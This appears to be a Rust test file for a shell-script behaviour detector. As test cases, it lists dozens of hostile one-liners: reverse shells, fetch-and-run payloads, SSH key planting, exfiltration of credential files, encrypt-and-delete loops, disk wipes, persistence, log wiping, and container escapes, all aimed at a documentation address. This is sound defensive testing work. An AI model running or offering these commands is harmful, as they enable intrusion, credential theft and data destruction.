@@ -1,0 +1,325 @@
+//! What is found in scripts, by what each does: ways to write one thing, and what only looks like it.
+
+use scriptwatch_behaviour::{Behaviour, Fact, Fact::*};
+
+fn facts(text: &str) -> Vec<Fact> {
+    Behaviour::of(text.as_bytes()).evidence.iter().map(|evidence| evidence.fact).collect()
+}
+
+/// Each of the scripts does all of that.
+fn all_do(scripts: &[&str], expected: &[Fact]) {
+    for script in scripts {
+        let found = facts(script);
+        for fact in expected {
+            assert!(found.contains(fact), "{fact} is missing of {script:?}: {found:?}");
+        }
+    }
+}
+
+/// None of the scripts does any of that.
+fn none_does(scripts: &[&str], unexpected: &[Fact]) {
+    for script in scripts {
+        let found = facts(script);
+        for fact in unexpected {
+            assert!(!found.contains(fact), "{fact} is found in {script:?}: {found:?}");
+        }
+    }
+}
+
+#[test]
+fn a_key_is_added_to_authorized_keys_however_it_is_written() {
+    all_do(
+        &[
+            "echo 'ssh-rsa AAAAB3Nza x' >> ~/.ssh/authorized_keys",
+            "f=~/.ssh/authorized_keys; k=\"ssh-ed25519 AAAA x\"; echo \"$k\" >> \"$f\"",
+            "d=/root/.ssh\nadd() { printf '%s\\n' \"$2\" | tee -a \"$1\" >/dev/null; }\nadd $d/authorized_keys 'ssh-rsa AAAA x'",
+            "cat >> /home/u/.ssh/authorized_keys <<E\nssh-rsa AAAAB3 x\nE",
+            "cd /root/.ssh && echo ssh-rsa AAAA x > authorized_keys",
+            "sh -c \"echo 'ssh-rsa AAAA x' >> $HOME/.ssh/authorized_keys\"",
+        ],
+        &[KeyAdded, KeyLiteral],
+    );
+    none_does(&["cat ~/.ssh/authorized_keys", "ssh-keygen -lf ~/.ssh/authorized_keys"], &[KeyAdded]);
+}
+
+#[test]
+fn the_line_that_replaces_all_keys_by_one_is_known() {
+    all_do(
+        &[
+            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2E mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
+        ],
+        &[KeyReplaced, KeyAdded, KeyLiteral],
+    );
+}
+
+#[test]
+fn what_is_fetched_is_followed_to_where_it_runs() {
+    all_do(
+        &[
+            "curl -so /tmp/.x http://192.0.2.1/x; chmod +x /tmp/.x; /tmp/.x &",
+            "cd /tmp; wget http://192.0.2.1/.x; chmod 777 .x; nohup ./.x >/dev/null 2>&1 &",
+            "u=http://192.0.2.1; p=/tmp/.x\nget() { wget -q \"$1\" -O \"$2\"; }\nget $u/a $p\nsh $p &",
+            "curl http://192.0.2.1/x > /tmp/.x && bash /tmp/.x &",
+        ],
+        &[FetchRun, FetchHidden, FetchTemporaryRun, FetchAddress, FetchRunBackground],
+    );
+    all_do(
+        &[
+            "curl -s http://192.0.2.1/x | sh",
+            "wget -qO- http://192.0.2.1/x|bash -s -- a",
+            "bash <(curl -s http://192.0.2.1/x)",
+            "eval \"$(curl -s http://192.0.2.1/x)\"",
+            "source /dev/stdin <<< \"$(curl -s http://192.0.2.1/x)\"",
+            "sh -c \"$(wget -qO- http://192.0.2.1/x)\"",
+            "c='curl -s http://192.0.2.1/x'; $c | python3",
+        ],
+        &[Fetches, FetchAddress],
+    );
+    none_does(
+        &["curl -fsSL https://download.docker.com/linux/debian/gpg -o /etc/apt/keyrings/docker.asc"],
+        &[FetchRun, FetchAddress, FetchToShell],
+    );
+}
+
+#[test]
+fn a_shell_on_a_connection_is_known() {
+    all_do(
+        &[
+            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+            "sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5 2>&5",
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
+            "nc 192.0.2.1 4444 -e /bin/sh",
+            "exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
+            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
+            "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
+            "h=192.0.2.1; p=4444; bash -c \"bash -i >& /dev/tcp/$h/$p 0>&1\"",
+        ],
+        &[ReverseShell],
+    );
+    none_does(
+        &[
+            "nc -z db 5432",
+            "echo ping | nc -w1 cache 6379",
+            "(echo > /dev/tcp/db/5432) >/dev/null 2>&1 && echo up",
+            "socat -u UNIX-LISTEN:/run/x.sock -",
+        ],
+        &[ReverseShell, BindShell],
+    );
+}
+
+#[test]
+fn commands_from_a_host_are_known_in_a_loop() {
+    all_do(
+        &[
+            "while true; do c=$(curl -s http://192.0.2.1/c); eval \"$c\"; sleep 9; done",
+            "while :; do curl -s http://192.0.2.1/c | sh; sleep 9; done",
+            "for ((;;)); do bash -c \"$(wget -qO- http://192.0.2.1/c)\"; done",
+            "until false; do $(curl -s http://192.0.2.1/c); sleep 5; done",
+        ],
+        &[CommandLoop],
+    );
+    none_does(&["while true; do curl -sf http://localhost/health || exit 1; sleep 9; done"], &[CommandLoop]);
+}
+
+#[test]
+fn a_secret_is_followed_from_where_it_is_read_to_where_it_is_sent() {
+    all_do(
+        &[
+            "curl -d @/root/.aws/credentials http://192.0.2.1/",
+            "s=$(cat ~/.ssh/id_rsa); curl -X POST --data \"$s\" https://example.net/",
+            "pack() { tar czf /tmp/.l.tgz ~/.aws ~/.kube; }\nship() { curl -F f=@/tmp/.l.tgz https://example.net/u; }\npack; ship",
+            "cat /etc/shadow | base64 | nc 192.0.2.1 9",
+            "t=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); wget -q --post-data=\"t=$t\" http://192.0.2.1/",
+            "cp ~/.kube/config /tmp/k; scp /tmp/k u@192.0.2.1:",
+            "env | curl -s --data-binary @- http://192.0.2.1/",
+        ],
+        &[Sends, SendsSecret],
+    );
+    none_does(
+        &["curl -d '{\"ok\":true}' http://hooks/", "tar czf - /srv/data | ssh backup 'cat > data.tgz'"],
+        &[SendsSecret],
+    );
+}
+
+#[test]
+fn files_that_are_encrypted_or_deleted_broadly_are_known() {
+    all_do(
+        &[
+            "for f in $(find /home -type f); do openssl enc -aes-256-cbc -in \"$f\" -out \"$f.enc\" -k p; rm -f \"$f\"; done",
+            "find /srv -type f | while read f; do gpg --batch -c --passphrase p \"$f\"; shred -u \"$f\"; done",
+            "lock() { openssl enc -aes-256-cbc -in \"$1\" -out \"$1.locked\" -k p && rm \"$1\"; }\nfor x in /data/*; do lock \"$x\"; done",
+        ],
+        &[Encrypts, EncryptsMany, EncryptsDeletes],
+    );
+    all_do(
+        &["rm -rf /", "rm -rf --no-preserve-root /", "d=/; rm -rf ${d}*", "find / -type f -delete"],
+        &[DeletesBroadly],
+    );
+    all_do(&["dd if=/dev/zero of=/dev/sda bs=1M", "t=/dev/vda; shred -n1 $t"], &[WipesDevice]);
+    none_does(
+        &[
+            "rm -rf /tmp/build",
+            "rm -rf \"$BUILD/\"*",
+            "find /var/cache -mtime +7 -delete",
+            "openssl enc -d -aes-256-cbc -in a -out b",
+            "gpg --verify x.asc x",
+        ],
+        &[DeletesBroadly, EncryptsMany, EncryptsDeletes],
+    );
+}
+
+#[test]
+fn what_stays_is_known() {
+    all_do(
+        &[
+            "(crontab -l; echo '* * * * * curl -s http://192.0.2.1/a|sh') | crontab -",
+            "echo '*/5 * * * * root /tmp/.x' > /etc/cron.d/x",
+        ],
+        &[CronAdded, CronFetches],
+    );
+    all_do(
+        &["printf '[Service]\\nExecStart=/tmp/.x\\n' > /etc/systemd/system/x.service; systemctl enable x"],
+        &[UnitAdded, UnitStrange],
+    );
+    all_do(&["echo 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' >> ~/.bashrc"], &[ProfileAdded, ProfileStrange]);
+    all_do(&["echo /usr/lib/x.so >> /etc/ld.so.preload"], &[PreloadAdded]);
+    all_do(&["echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd", "useradd -o -u 0 x"], &[AccountAdded, AccountRoot]);
+    all_do(&["cp /bin/bash /tmp/b; chmod u+s /tmp/b", "chmod 4755 /tmp/b"], &[SetuidShell]);
+    none_does(&["echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup"], &[CronFetches]);
+    none_does(&["echo 'export PATH=$PATH:/opt/x/bin' >> ~/.bashrc"], &[ProfileStrange]);
+}
+
+#[test]
+fn what_hides_traces_is_known() {
+    all_do(
+        &[
+            "unset HISTFILE",
+            "export HISTFILE=/dev/null",
+            "HISTSIZE=0",
+            "history -c",
+            "ln -sf /dev/null ~/.bash_history",
+            "set +o history",
+        ],
+        &[HistoryOff],
+    );
+    all_do(
+        &[
+            "> /var/log/auth.log",
+            "l=/var/log; rm -f $l/wtmp",
+            "truncate -s0 /var/log/syslog",
+            "cat /dev/null > /var/log/lastlog",
+        ],
+        &[LogsRemoved],
+    );
+    all_do(
+        &[
+            "systemctl stop auditd",
+            "service falco stop",
+            "kill -9 $(pidof auditd)",
+            "pkill -f falcon-sensor",
+            "setenforce 0",
+        ],
+        &[DefenceStopped],
+    );
+    none_does(
+        &["make > /var/log/build.log 2>&1", "systemctl restart auditd", "HISTSIZE=10000"],
+        &[HistoryOff, LogsRemoved, DefenceStopped],
+    );
+}
+
+#[test]
+fn ways_out_of_a_container_are_known() {
+    all_do(&["nsenter -t 1 -m -u -i -n sh"], &[EscapeHost]);
+    all_do(
+        &["echo /x > /tmp/cg/release_agent", "p=/proc/sys/kernel/core_pattern; echo '|/x' > $p"],
+        &[EscapeCgroup],
+    );
+    all_do(
+        &[
+            "docker run -v /:/host -it alpine chroot /host sh",
+            "docker -H tcp://192.0.2.1:2375 run --privileged -v /:/m alpine sh",
+        ],
+        &[EscapePod],
+    );
+    none_does(&["docker run --rm -v \"$PWD:/src\" alpine ls"], &[EscapePod, EscapeHost]);
+}
+
+#[test]
+fn hidden_commands_are_undone() {
+    all_do(
+        &["echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaAo= | base64 -d | sh"],
+        &[RunsDecoded, FetchToShell, FetchAddress],
+    );
+    all_do(
+        &[
+            "$'\\x63\\x75\\x72\\x6c' -s http://192.0.2.1/x | sh",
+            "c''url -s http://192.0.2.1/x | sh",
+            "{curl,-s,http://192.0.2.1/x} | sh",
+            "a=cu b=rl; $a$b -s http://192.0.2.1/x | s\\h",
+        ],
+        &[FetchToShell],
+    );
+    all_do(&["/???/b?n/c?rl http://192.0.2.1/x"], &[HidesGlob]);
+    all_do(
+        &["printf '\\143\\165\\162\\154\\40-s\\40http://192.0.2.1/x|sh' | sh"],
+        &[HidesCode, RunsDecoded, FetchToShell],
+    );
+}
+
+#[test]
+fn evidence_says_where() {
+    let text = "id\n\necho 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys\n";
+    let does = Behaviour::of(text.as_bytes());
+    let evidence = does.evidence.iter().find(|e| e.fact == KeyAdded).unwrap();
+    assert_eq!(&text[evidence.at as usize..][..4], "echo");
+    assert_eq!(evidence.about, b"~/.ssh/authorized_keys");
+}
+
+#[test]
+fn no_text_is_followed_for_ever() {
+    let nested = |unit: &str, n: usize| unit.repeat(n);
+    let texts = [
+        nested("$(", 60_000),
+        nested("a=$a$a$a$a;", 12_000),
+        format!("f() {{ f; f; f; }}; {}", "f;".repeat(20_000)),
+        format!(
+            "a() {{ b; b; }}; b() {{ c; c; }}; c() {{ d; d; }}; d() {{ e; e; }}; e() {{ id; }}; {}",
+            "a;".repeat(20_000)
+        ),
+        nested("eval \"$x\";", 12_000),
+        format!("x='{}'; {}", "eval \"$x\";".repeat(1000), "eval \"$x\";".repeat(1000)),
+        nested("for i in a b c d e f; do ", 5_000),
+        nested("cat <<E\n", 15_000),
+        format!("{}|sh", "echo a".repeat(15_000)),
+        nested("a|", 60_000),
+        nested("((a", 40_000),
+        nested("{a,b}", 24_000),
+        format!("echo {} | base64 -d | sh", "YWFh".repeat(30_000)),
+        format!("x={}; {}", "a ".repeat(30_000), "$x;".repeat(20_000)),
+        format!("x={}; {}", "a".repeat(60_000), "echo ${x//a/aaaaaaaa};".repeat(3_000)),
+        nested("f() (", 24_000),
+        nested("${a:-", 24_000),
+        nested("case a in b) ", 9_000),
+    ];
+    for text in texts {
+        let start = std::time::Instant::now();
+        let does = Behaviour::of(text.as_bytes());
+        // Bounded by steps and bytes, not by a clock; the clock only tells if that bound is there at all.
+        assert!(
+            start.elapsed().as_secs() < 5,
+            "{:?} for {:.40}: {} facts",
+            start.elapsed(),
+            text,
+            does.evidence.len()
+        );
+        assert!(does.evidence.len() <= Fact::ALL.len());
+    }
+}
+
+#[test]
+fn what_is_late_is_not_there() {
+    let long = "curl -s http://192.0.2.1/x | sh; ".repeat(3_000);
+    assert!(Behaviour::within(long.as_bytes(), std::time::Instant::now()).is_none());
+    let soon = std::time::Instant::now() + std::time::Duration::from_mins(1);
+    assert!(Behaviour::within(b"id", soon).is_some());
+}
